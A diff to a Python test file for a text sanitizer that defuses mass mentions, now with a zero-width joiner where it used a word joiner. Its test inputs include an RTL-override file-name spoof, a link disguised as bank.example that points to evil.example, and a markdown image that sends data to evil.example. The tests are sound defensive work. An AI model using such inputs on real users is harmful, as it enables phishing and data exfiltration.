@@ -95,12 +95,12 @@ def test_a_pattern_covers_what_begins_so(name, other):
     [
         ("**bold** `code` _it_\n- a\n> b", "**bold** `code` _it_\n- a\n> b"),
         ("write to ann@example.org", "write to ann@example.org"),
-        ("@all look", "@\u2060all look"),
-        ("```\n@here\n```", "```\n@\u2060here\n```"),
-        ("a >@all", "a >@\u2060all"),
-        ("@\u2060all", "@\u2060\u2060all"),
+        ("@all look", "@\u200dall look"),
+        ("```\n@here\n```", "```\n@\u200dhere\n```"),
+        ("a >@all", "a >@\u200dall"),
+        ("@\u200dall", "@\u200d\u200dall"),
         ("a\u2028@all", "a@all"),
-        ("\ufeff@all", "@\u2060all"),
+        ("\ufeff@all", "@\u200dall"),
         ("\u202etxt.exe", "txt.exe"),
         ("[https://bank.example](https://evil.example)", "[https://bank.example] (https://evil.example)"),
         ("![](https://evil.example/?data)", "![] (https://evil.example/?data)"),
@@ -120,4 +120,4 @@ def test_no_text_calls_anybody_or_hides_a_link(text):
     said = harmless(text)
     assert not MENTION.search(said)
     assert not HIDDEN_LINK.search(said)
-    assert harmless(said).replace("\u2060", "") == said.replace("\u2060", "")
+    assert harmless(said).replace("\u200d", "") == said.replace("\u200d", "")
